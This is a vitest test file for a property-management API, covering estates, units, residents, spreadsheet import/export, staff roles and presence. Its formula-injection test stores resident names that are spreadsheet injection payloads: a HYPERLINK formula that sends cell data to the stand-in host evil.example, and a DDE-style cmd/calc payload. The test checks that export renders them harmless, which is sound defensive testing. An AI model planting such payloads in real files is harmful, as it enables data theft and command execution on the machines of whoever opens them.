import ExcelJS from 'exceljs';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { buildBuilding, buildEstate, buildResident, buildStaff, buildUnit, buildWorld } from '../../test/support/factories.js';
import { createTestApp, ENGINE, type TestApp } from '../../test/support/harness.js';

const csv = (text: string) => ({ format: 'csv', fileName: 'x.csv', contentBase64: Buffer.from(text, 'utf8').toString('base64') });

async function xlsx(rows: (string | number)[][]) {
  const wb = new ExcelJS.Workbook();
  const sheet = wb.addWorksheet('單元');
  for (const r of rows) sheet.addRow(r);
  return { format: 'xlsx', fileName: 'x.xlsx', contentBase64: Buffer.from(await wb.xlsx.writeBuffer()).toString('base64') };
}

async function tableCount(t: TestApp, table: 'units' | 'residents' | 'buildings' | 'resident_units' | 'history') {
  const r = await t.ctx.db
    .selectFrom(table)
    .select((eb) => eb.fn.countAll<number>().as('n'))
    .executeTakeFirstOrThrow();
  return Number(r.n);
}

describe(`directory [${ENGINE}]`, () => {
  let t: TestApp;
  beforeEach(async () => {
    t = await createTestApp();
  });
  afterEach(async () => t.close());

  describe('estates', () => {
    it('an admin creates an estate with the policy defaults of RULES.md and five departments', async () => {
      const res = await t.admin.post('/estates', { code: 'hfg', name: '海峰閣', address: '香港海峰路1號', officeName: '海峰閣' });
      expect(res.status).toBe(201);
      expect(res.body).toMatchObject({ code: 'HFG', timeZone: 'Asia/Hong_Kong' });
      expect(res.body.policy).toMatchObject({
        complaintReplyHours: 72,
        followUpHours: { safety: 48, leak: 72, other: 168 },
        afterRainFollowUpHours: 48,
        rectificationNoticeHours: 24,
        spotCheckMinItems: 3,
        spotCheckPercent: 10,
        spotCheckDueDay: 7,
        callbackPromiseMinutes: 20,
        callbackAfterReturnMinutes: 30,
        callbackNextMorning: '09:00',
        counterSeatOrder: ['L2', 'R2', 'L1', 'R1'],
        walkInWaitLimitMinutes: 5,
        currency: 'HKD',
      });
      const depts = await t.admin.get(`/estates/${res.body.id}/departments`);
      expect(depts.body.items.map((d: { code: string }) => d.code).sort()).toEqual([
        'engineering',
        'finance',
        'front_desk',
        'property',
        'security',
      ]);
      const engineering = depts.body.items.find((d: { code: string }) => d.code === 'engineering');
      expect(engineering.repairClasses).toEqual(['safety', 'leak', 'other']);
    });

    it('a duplicate estate code is a 409 naming the field', async () => {
      await t.admin.post('/estates', { code: 'DUP', name: '甲', address: '甲', officeName: '甲' });
      const res = await t.admin.post('/estates', { code: 'dup', name: '乙', address: '乙', officeName: '乙' });
      expect(res.status).toBe(409);
      expect(res.body.error.details.field).toBe('code');
    });

    it('a time zone that is not an IANA zone is refused naming the field', async () => {
      const res = await t.admin.post('/estates', { code: 'TZ1', name: '甲', address: '甲', officeName: '甲', timeZone: 'Mars/Olympus' });
      expect(res.status).toBe(400);
      expect(res.body.error.details.issues[0].path).toBe('body.timeZone');
    });

    it('a manager changes the policy; a receptionist may not', async () => {
      const estate = await buildEstate(t);
      await buildStaff(t, estate.id, { username: 'mgr', role: 'manager' });
      await buildStaff(t, estate.id, { username: 'desk', role: 'receptionist' });
      const policy = { ...estate.policy, walkInWaitLimitMinutes: 3, followUpHours: { safety: 24, leak: 72, other: 168 } };
      const mgr = await t.as('mgr');
      const ok = await mgr.patch(`/estates/${estate.id}`, { policy });
      expect(ok.status).toBe(200);
      expect(ok.body.policy.walkInWaitLimitMinutes).toBe(3);
      expect((await t.admin.get(`/estates/${estate.id}`)).body.policy.followUpHours.safety).toBe(24);
      const desk = await t.as('desk');
      expect((await desk.patch(`/estates/${estate.id}`, { name: 'x' })).status).toBe(403);
    });

    it('a policy value out of range is refused naming the nested field', async () => {
      const estate = await buildEstate(t);
      const res = await t.admin.patch(`/estates/${estate.id}`, {
        policy: { ...estate.policy, followUpHours: { safety: 0, leak: 72, other: 168 } },
      });
      expect(res.status).toBe(400);
      expect(res.body.error.details.issues[0].path).toBe('body.policy.followUpHours.safety');
    });
  });

  describe('units', () => {
    it('creates, reads and updates a unit with its building', async () => {
      const estate = await buildEstate(t);
      const building = await buildBuilding(t, estate.id, 'A座');
      const created = await t.admin.post(`/estates/${estate.id}/units`, {
        buildingId: building.id,
        number: '12A',
        floor: 12,
        areaM2: 55.5,
      });
      expect(created.status).toBe(201);
      expect(created.body).toMatchObject({ buildingName: 'A座', number: '12A', floor: 12, areaM2: 55.5, residentCount: 0 });
      const updated = await t.admin.patch(`/units/${created.body.id}`, { areaM2: null });
      expect(updated.body.areaM2).toBeNull();
      const got = await t.admin.get(`/units/${created.body.id}`);
      expect(got.body).toMatchObject({ number: '12A', areaM2: null, residents: [] });
    });

    it('the same number twice in a building is a 409; in another building it is fine', async () => {
      const estate = await buildEstate(t);
      const a = await buildBuilding(t, estate.id, 'A座');
      const b = await buildBuilding(t, estate.id, 'B座');
      await buildUnit(t, estate.id, { buildingId: a.id, number: '1A' });
      const dup = await t.admin.post(`/estates/${estate.id}/units`, { buildingId: a.id, number: '1A', floor: 1 });
      expect(dup.status).toBe(409);
      expect(dup.body.error.details.field).toBe('number');
      expect((await t.admin.post(`/estates/${estate.id}/units`, { buildingId: b.id, number: '1A', floor: 1 })).status).toBe(201);
    });

    it('pages, searches, filters and sorts', async () => {
      const estate = await buildEstate(t);
      const a = await buildBuilding(t, estate.id, 'A座');
      const b = await buildBuilding(t, estate.id, 'B座');
      for (let floor = 1; floor <= 6; floor++) {
        await buildUnit(t, estate.id, { buildingId: a.id, number: `${floor}A`, floor, areaM2: 40 + floor });
        await buildUnit(t, estate.id, { buildingId: b.id, number: `${floor}B`, floor, areaM2: 60 - floor });
      }
      const page2 = await t.admin.get(`/estates/${estate.id}/units?pageSize=5&page=2`);
      expect(page2.body).toMatchObject({ total: 12, page: 2, pageSize: 5 });
      expect(page2.body.items).toHaveLength(5);
      const last = await t.admin.get(`/estates/${estate.id}/units?pageSize=5&page=3`);
      expect(last.body.items).toHaveLength(2);
      const search = await t.admin.get(`/estates/${estate.id}/units?q=3`);
      expect(search.body.items.map((u: { number: string }) => u.number).sort()).toEqual(['3A', '3B']);
      const inB = await t.admin.get(`/estates/${estate.id}/units?buildingId=${b.id}&floor=2`);
      expect(inB.body.items.map((u: { number: string }) => u.number)).toEqual(['2B']);
      const byArea = await t.admin.get(`/estates/${estate.id}/units?sort=-area&pageSize=1`);
      expect(byArea.body.items[0].number).toBe('1B');
    });

    it('a search with SQL wildcards finds them literally', async () => {
      const estate = await buildEstate(t);
      await buildUnit(t, estate.id, { number: '1A' });
      const res = await t.admin.get(`/estates/${estate.id}/units?q=${encodeURIComponent('%')}`);
      expect(res.body.total).toBe(0);
    });

    it('a page size over 200 is refused naming the field', async () => {
      const estate = await buildEstate(t);
      const res = await t.admin.get(`/estates/${estate.id}/units?pageSize=500`);
      expect(res.status).toBe(400);
      expect(res.body.error.details.issues[0].path).toBe('querystring.pageSize');
    });
  });

  describe('residents', () => {
    it('links a resident to units and finds them by name, phone or unit number', async () => {
      const { estate, unit } = await buildWorld(t);
      const res = await t.admin.post(`/estates/${estate.id}/residents`, {
        name: '黃小明',
        phone: '9876 5432',
        email: 'wong@example.com',
        kind: 'tenant',
        unitIds: [unit.id],
      });
      expect(res.status).toBe(201);
      expect(res.body.units).toEqual([expect.objectContaining({ id: unit.id, buildingName: 'A座', number: '1A' })]);
      for (const q of ['小明', '9876', '1A', 'wong@']) {
        const found = await t.admin.get(`/estates/${estate.id}/residents?q=${encodeURIComponent(q)}`);
        expect(
          found.body.items.map((r: { name: string }) => r.name),
          q,
        ).toContain('黃小明');
      }
      const tenants = await t.admin.get(`/estates/${estate.id}/residents?kind=tenant`);
      expect(tenants.body.items.map((r: { name: string }) => r.name)).toEqual(['黃小明']);
      const inUnit = await t.admin.get(`/units/${unit.id}`);
      expect(inUnit.body.residents).toHaveLength(2);
    });

    it('moving a resident replaces their units and keeps the old ones in the history', async () => {
      const { estate, unit, resident } = await buildWorld(t);
      const other = await buildUnit(t, estate.id, { number: '9C' });
      const res = await t.admin.patch(`/residents/${resident.id}`, { unitIds: [other.id] });
      expect(res.body.units.map((u: { id: string }) => u.id)).toEqual([other.id]);
      const history = await t.admin.get(`/estates/${estate.id}/history?entityType=resident&entityId=${resident.id}`);
      expect(history.body.items[0].before.unitIds).toEqual([unit.id]);
      expect(history.body.items[0].after.unitIds).toEqual([other.id]);
    });

    it('an email that is not an email is refused naming the field', async () => {
      const estate = await buildEstate(t);
      const res = await t.admin.post(`/estates/${estate.id}/residents`, { name: '甲', kind: 'owner', email: 'nope' });
      expect(res.status).toBe(400);
      expect(res.body.error.details.issues[0].path).toBe('body.email');
    });
  });

  describe('import and export', () => {
    it('a CSV with one bad row imports nothing and names the row, column and reason', async () => {
      const estate = await buildEstate(t);
      const before = await Promise.all([tableCount(t, 'units'), tableCount(t, 'buildings'), tableCount(t, 'history')]);
      const res = await t.admin.post(
        `/estates/${estate.id}/units/import`,
        csv('building,number,floor,area_m2\nA座,1A,1,50\nA座,1B,abc,50\nB座,1A,1,\n'),
      );
      expect(res.status).toBe(422);
      expect(res.body.error.code).toBe('import.invalid_rows');
      // The bad cell is echoed, so the person sees what to fix without opening the file.
      expect(res.body.error.details.rows).toEqual([
        expect.objectContaining({ row: 3, column: 'floor', reason: 'invalid_number', value: 'abc' }),
      ]);
      expect(await Promise.all([tableCount(t, 'units'), tableCount(t, 'buildings'), tableCount(t, 'history')])).toEqual(before);
    });

    it('the fixed CSV imports every row, creating buildings, and re-importing updates rather than duplicates', async () => {
      const estate = await buildEstate(t);
      const file = '\uFEFF大廈,單元,樓層,面積\nA座,1A,1,50\nA座,1B,1,50.5\nB座,1A,1,\n';
      const res = await t.admin.post(`/estates/${estate.id}/units/import`, csv(file));
      expect(res.status).toBe(200);
      expect(res.body).toEqual({ created: 3, updated: 0, total: 3 });
      const buildings = await t.admin.get(`/estates/${estate.id}/buildings`);
      expect(buildings.body.items.map((b: { name: string; unitCount: number }) => [b.name, b.unitCount])).toEqual([
        ['A座', 2],
        ['B座', 1],
      ]);
      const again = await t.admin.post(
        `/estates/${estate.id}/units/import`,
        csv('building,number,floor,area_m2\nA座,1A,1,52\nA座,1B,1,50.5\n'),
      );
      expect(again.body).toEqual({ created: 0, updated: 1, total: 2 });
      expect(await tableCount(t, 'units')).toBe(3);
    });

    it('a dry run reports what would happen and writes nothing', async () => {
      const estate = await buildEstate(t);
      const res = await t.admin.post(`/estates/${estate.id}/units/import`, { ...csv('building,number,floor\nA座,1A,1\n'), dryRun: true });
      expect(res.body).toEqual({ created: 1, updated: 0, total: 1 });
      expect(await tableCount(t, 'units')).toBe(0);
      expect(await tableCount(t, 'buildings')).toBe(0);
    });

    it('imports an XLSX file and reports a bad row of it', async () => {
      const estate = await buildEstate(t);
      const bad = await xlsx([
        ['building', 'number', 'floor', 'area_m2'],
        ['A座', '2A', 2, 48],
        ['A座', '', 2, 48],
      ]);
      const refused = await t.admin.post(`/estates/${estate.id}/units/import`, bad);
      expect(refused.status).toBe(422);
      expect(refused.body.error.details.rows).toEqual([expect.objectContaining({ row: 3, column: 'number', reason: 'required' })]);
      const good = await xlsx([
        ['building', 'number', 'floor', 'area_m2'],
        ['A座', '2A', 2, 48],
        ['A座', '2B', 2, 48],
      ]);
      expect((await t.admin.post(`/estates/${estate.id}/units/import`, good)).body).toEqual({ created: 2, updated: 0, total: 2 });
    });

    it('residents import links units and reports a unit that does not exist', async () => {
      const { estate } = await buildWorld(t);
      const bad = await t.admin.post(
        `/estates/${estate.id}/residents/import`,
        csv('name,phone,phone_alt,email,kind,building,unit\n李四,91111111,,,owner,A座,1A\n王五,92222222,,,租客,A座,99Z\n'),
      );
      expect(bad.status).toBe(422);
      expect(bad.body.error.details.rows).toEqual([expect.objectContaining({ row: 3, column: 'unit', reason: 'unknown_unit' })]);
      const good = await t.admin.post(
        `/estates/${estate.id}/residents/import`,
        csv('name,phone,phone_alt,email,kind,building,unit\n李四,91111111,,,owner,A座,1A\n王五,92222222,,,租客,,\n'),
      );
      expect(good.body).toEqual({ created: 2, updated: 0, total: 2 });
      const found = await t.admin.get(`/estates/${estate.id}/residents?q=${encodeURIComponent('李四')}`);
      expect(found.body.items[0].units[0].number).toBe('1A');
    });

    it('a file that is not a spreadsheet is refused naming the field', async () => {
      const estate = await buildEstate(t);
      const res = await t.admin.post(`/estates/${estate.id}/units/import`, {
        format: 'xlsx',
        contentBase64: Buffer.from('not a zip').toString('base64'),
      });
      expect(res.status).toBe(422);
      expect(res.body.error.details.field).toBe('contentBase64');
    });

    it('exports units as CSV and XLSX in the columns the import reads, so a round trip changes nothing', async () => {
      const { estate } = await buildWorld(t);
      await buildUnit(t, estate.id, { number: '2B', floor: 2, areaM2: 33.3 });
      const csvRes = await t.admin.get(`/estates/${estate.id}/units/export?format=csv`);
      expect(csvRes.status).toBe(200);
      expect(csvRes.headers['content-type']).toMatch(/text\/csv/);
      expect(csvRes.headers['content-disposition']).toMatch(/attachment; filename="units.csv"/);
      const text = String(csvRes.body);
      expect(text.split('\n')[0]).toBe('\uFEFFbuilding,number,floor,area_m2');
      expect(text).toContain('A座,1A,1,50');
      const back = await t.admin.post(`/estates/${estate.id}/units/import`, csv(text));
      expect(back.body).toEqual({ created: 0, updated: 0, total: 2 });
      const xlsxRes = await t.app.inject({
        method: 'GET',
        url: `/api/v1/estates/${estate.id}/units/export?format=xlsx`,
        headers: { cookie: t.admin.cookie as string },
      });
      const wb = new ExcelJS.Workbook();
      await wb.xlsx.load(xlsxRes.rawPayload as unknown as ArrayBuffer);
      const sheet = wb.worksheets[0];
      expect(sheet?.getRow(1).values).toEqual([undefined, 'building', 'number', 'floor', 'area_m2']);
      expect(sheet?.rowCount).toBe(3);
    });

    it('R-WD-2: residents import and export carry the form of address; a later file changes it, an unknown one is refused naming the cell', async () => {
      const { estate } = await buildWorld(t);
      const first = await t.admin.post(
        `/estates/${estate.id}/residents/import`,
        csv('name,phone,phone_alt,email,kind,building,unit,title\n李四,91111111,,,owner,A座,1A,太太\n王五,92222222,,,租客,,,\n'),
      );
      expect(first.body).toEqual({ created: 2, updated: 0, total: 2 });
      const titles = async () =>
        Object.fromEntries(
          (await t.ctx.db.selectFrom('residents').select(['name', 'title']).where('estate_id', '=', estate.id).execute()).map((r) => [
            r.name,
            r.title,
          ]),
        );
      expect(await titles()).toMatchObject({ 李四: 'mrs', 王五: null });
      const exported = String((await t.admin.get(`/estates/${estate.id}/residents/export?format=csv`)).body);
      expect(exported.replace(/^\uFEFF/, '').split(/\r?\n/)[0]).toBe(
        'name,phone,phone_alt,email,kind,building,unit,title,locale,notify_channel,opt_out',
      );
      expect(exported).toContain('李四,91111111,,,owner,A座,1A,mrs,zh-Hant,auto,');
      const later = await t.admin.post(`/estates/${estate.id}/residents/import`, csv('name,phone,kind,title\n王五,92222222,tenant,Mr\n'));
      expect(later.body).toEqual({ created: 0, updated: 1, total: 1 });
      expect(await titles()).toMatchObject({ 李四: 'mrs', 王五: 'mr' });
      const bad = await t.admin.post(`/estates/${estate.id}/residents/import`, csv('name,kind,title\n趙六,owner,Dr\n'));
      expect(bad.status).toBe(422);
      expect(bad.body.error.details.rows).toEqual([
        expect.objectContaining({ row: 2, column: 'title', reason: 'invalid_title', value: 'Dr' }),
      ]);
      expect(await titles()).not.toHaveProperty('趙六');
    });

    it("R-CP-5: residents import and export carry the language, channel and refused channels; a file without them keeps the resident's", async () => {
      const { estate } = await buildWorld(t);
      const first = await t.admin.post(
        `/estates/${estate.id}/residents/import`,
        csv(
          'name,phone,email,kind,locale,notify_channel,opt_out\n李四,91111111,li@example.com,owner,英文,電郵,sms portal\n王五,92222222,,租客,,,\n',
        ),
      );
      expect(first.body).toEqual({ created: 2, updated: 0, total: 2 });
      const prefs = async () =>
        Object.fromEntries(
          (
            await t.ctx.db
              .selectFrom('residents')
              .select(['name', 'locale', 'notify_channel', 'sms_opt_out', 'email_opt_out', 'portal_opt_out'])
              .where('estate_id', '=', estate.id)
              .execute()
          ).map((r) => [r.name, [r.locale, r.notify_channel, r.sms_opt_out, r.email_opt_out, r.portal_opt_out]]),
        );
      expect(await prefs()).toMatchObject({ 李四: ['en', 'email', 1, 0, 1], 王五: ['zh-Hant', null, 0, 0, 0] });
      const exported = String((await t.admin.get(`/estates/${estate.id}/residents/export?format=csv`)).body);
      expect(exported).toContain('李四,91111111,,li@example.com,owner,,,,en,email,sms portal');
      const later = await t.admin.post(`/estates/${estate.id}/residents/import`, csv('name,phone,kind\n李四,91111111,owner\n'));
      expect(later.body).toEqual({ created: 0, updated: 0, total: 1 });
      expect((await prefs()).李四).toEqual(['en', 'email', 1, 0, 1]);
      const bad = await t.admin.post(`/estates/${estate.id}/residents/import`, csv('name,kind,notify_channel\n趙六,owner,fax\n'));
      expect(bad.status).toBe(422);
      expect(bad.body.error.details.rows).toEqual([
        expect.objectContaining({ row: 2, column: 'notify_channel', reason: 'invalid_channel', value: 'fax' }),
      ]);
    });
    it('exports residents with their units', async () => {
      const { estate, resident } = await buildWorld(t);
      const res = await t.admin.get(`/estates/${estate.id}/residents/export?format=csv`);
      expect(String(res.body)).toContain(`${resident.name},${resident.phone},,,owner,A座,1A`);
    });
  });

  describe('export formula injection', () => {
    it('a resident named like a formula is exported to CSV as text, and a +852 phone round-trips through export and import', async () => {
      const { estate, unit } = await buildWorld(t);
      const evil = await t.admin.post(`/estates/${estate.id}/residents`, {
        name: '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
        phone: '+852 9123 4567',
        kind: 'tenant',
        unitIds: [unit.id],
      });
      expect(evil.status).toBe(201);
      const cmd = await t.admin.post(`/estates/${estate.id}/residents`, { name: "=cmd|' /C calc'!A0", phone: '-91234567', kind: 'owner' });
      expect(cmd.status).toBe(201);
      const res = await t.admin.get(`/estates/${estate.id}/residents/export?format=csv`);
      const text = String(res.body);
      expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")",'+852 9123 4567,,,tenant,A座,1A`);
      expect(text).toContain(`'=cmd|' /C calc'!A0,'-91234567,`);
      // No cell starts a formula: every line's cells begin with a quote or ordinary text.
      for (const line of text
        .replace(/^\uFEFF/, '')
        .trim()
        .split('\n'))
        expect(line).not.toMatch(/(^|,)"?[=+\-@]/);
      const back = await t.admin.post(`/estates/${estate.id}/residents/import`, csv(text));
      expect(back.status).toBe(200);
      expect(back.body).toMatchObject({ created: 0, updated: 0 });
      const all = await t.admin.get(`/estates/${estate.id}/residents?pageSize=200`);
      const phones = all.body.items.filter((r: { name: string }) => r.name.startsWith('=')).map((r: { phone: string }) => r.phone);
      expect(phones.sort()).toEqual(['+852 9123 4567', '-91234567']);
    });
  });

  describe('staff and presence', () => {
    it('a manager adds a receptionist to their estate with a department and counter seat', async () => {
      const estate = await buildEstate(t);
      await buildStaff(t, estate.id, { username: 'mgr', role: 'manager' });
      const depts = await t.admin.get(`/estates/${estate.id}/departments`);
      const frontDesk = depts.body.items.find((d: { code: string }) => d.code === 'front_desk');
      const mgr = await t.as('mgr');
      const res = await mgr.post('/staff', {
        username: 'Desk.Chan',
        name: '陳美華',
        surname: '陳',
        role: 'receptionist',
        password: 'a-long-password',
        estates: [{ estateId: estate.id, departmentId: frontDesk.id, counterSeat: 'L2' }],
      });
      expect(res.status).toBe(201);
      expect(res.body).toMatchObject({
        username: 'desk.chan',
        role: 'receptionist',
        estates: [{ estateId: estate.id, departmentId: frontDesk.id, counterSeat: 'L2' }],
      });
      const taken = await mgr.post('/staff', {
        username: 'desk.lee',
        name: '李嘉芬',
        surname: '李',
        role: 'receptionist',
        password: 'a-long-password',
        estates: [{ estateId: estate.id, departmentId: null, counterSeat: 'L2' }],
      });
      expect(taken.status).toBe(409);
      const list = await mgr.get(`/estates/${estate.id}/staff?role=receptionist`);
      expect(list.body.items.map((s: { username: string }) => s.username)).toEqual(['desk.chan']);
    });

    it('a manager may not make an admin', async () => {
      const estate = await buildEstate(t);
      await buildStaff(t, estate.id, { username: 'mgr', role: 'manager' });
      const mgr = await t.as('mgr');
      const res = await mgr.post('/staff', {
        username: 'sneaky',
        name: '甲',
        surname: '甲',
        role: 'admin',
        password: 'a-long-password',
        estates: [{ estateId: estate.id, departmentId: null, counterSeat: null }],
      });
      expect(res.status).toBe(403);
      expect(res.body.error.details.field).toBe('role');
    });

    it("[R-WK-5] staff set their own presence; the desk sets anyone's; maintenance may not set others'", async () => {
      const estate = await buildEstate(t);
      const desk = await buildStaff(t, estate.id, { username: 'desk', role: 'receptionist' });
      const fixer = await buildStaff(t, estate.id, { username: 'fixer', role: 'maintenance' });
      const fixerClient = await t.as('fixer');
      const own = await fixerClient.put(`/staff/${fixer.id}/presence`, { state: 'out', until: '2026-11-20T04:00:00.000Z', note: '維修中' });
      expect(own.status).toBe(200);
      expect(own.body).toMatchObject({ state: 'out', until: '2026-11-20T04:00:00.000Z', note: '維修中' });
      expect((await fixerClient.put(`/staff/${desk.id}/presence`, { state: 'off_duty' })).status).toBe(403);
      const deskClient = await t.as('desk');
      expect((await deskClient.put(`/staff/${fixer.id}/presence`, { state: 'meeting', onTask: true })).status).toBe(200);
      const board = await deskClient.get(`/estates/${estate.id}/presence`);
      const row = board.body.items.find((i: { staff: { id: string } }) => i.staff.id === fixer.id);
      expect(row.presence).toMatchObject({ state: 'meeting', onTask: true, until: null });
      const neverSet = board.body.items.find((i: { staff: { id: string } }) => i.staff.id === desk.id);
      expect(neverSet.presence.state).toBe('off_duty');
    });

    it('a presence state that does not exist is refused naming the field', async () => {
      const estate = await buildEstate(t);
      const desk = await buildStaff(t, estate.id, { username: 'desk' });
      const res = await t.admin.put(`/staff/${desk.id}/presence`, { state: 'napping' });
      expect(res.status).toBe(400);
      expect(res.body.error.details.issues[0].path).toBe('body.state');
    });
  });

  it('the demo estate has 200 units, their residents, five departments and a dozen staff', async () => {
    const demo = await createTestApp({ demo: true });
    try {
      const estates = await demo.admin.get('/estates');
      const estate = estates.body.items.find((e: { name: string }) => e.name === '誠基公寓');
      expect(estate.timeZone).toBe('Asia/Hong_Kong');
      expect((await demo.admin.get(`/estates/${estate.id}/units?pageSize=1`)).body.total).toBe(200);
      expect((await demo.admin.get(`/estates/${estate.id}/residents?pageSize=1`)).body.total).toBeGreaterThanOrEqual(200);
      expect((await demo.admin.get(`/estates/${estate.id}/departments`)).body.total).toBe(5);
      expect((await demo.admin.get(`/estates/${estate.id}/staff?pageSize=1`)).body.total).toBe(12);
      const desk = await demo.as('chan.mw');
      expect((await desk.get('/auth/session')).body.estates.map((e: { name: string }) => e.name)).toEqual(['誠基公寓']);
    } finally {
      await demo.close();
    }
  });

  it('buildResident factory data shows in the unit detail', async () => {
    const { estate, unit } = await buildWorld(t);
    await buildResident(t, estate.id, { name: '第二住戶', unitIds: [unit.id], kind: 'tenant' });
    const res = await t.admin.get(`/units/${unit.id}`);
    expect(res.body.residents.map((r: { name: string }) => r.name)).toContain('第二住戶');
  });

  it("a unit's residents and their phones reach the office only: maintenance staff see the unit without them", async () => {
    const { estate, unit } = await buildWorld(t);
    await buildResident(t, estate.id, { name: '電話住戶', phone: '93334444', unitIds: [unit.id] });
    await buildStaff(t, estate.id, { username: 'unit.repairer', role: 'maintenance' });
    await buildStaff(t, estate.id, { username: 'unit.desk', role: 'receptionist' });
    const repairer = await (await t.as('unit.repairer')).get(`/units/${unit.id}`);
    expect(repairer.status).toBe(200);
    expect(repairer.body.number).toBe(unit.number);
    expect(repairer.body.residents).toEqual([]);
    expect(JSON.stringify(repairer.body)).not.toContain('93334444');
    const desk = await (await t.as('unit.desk')).get(`/units/${unit.id}`);
    expect(desk.body.residents.map((r: { phone: string }) => r.phone)).toContain('93334444');
  });
});
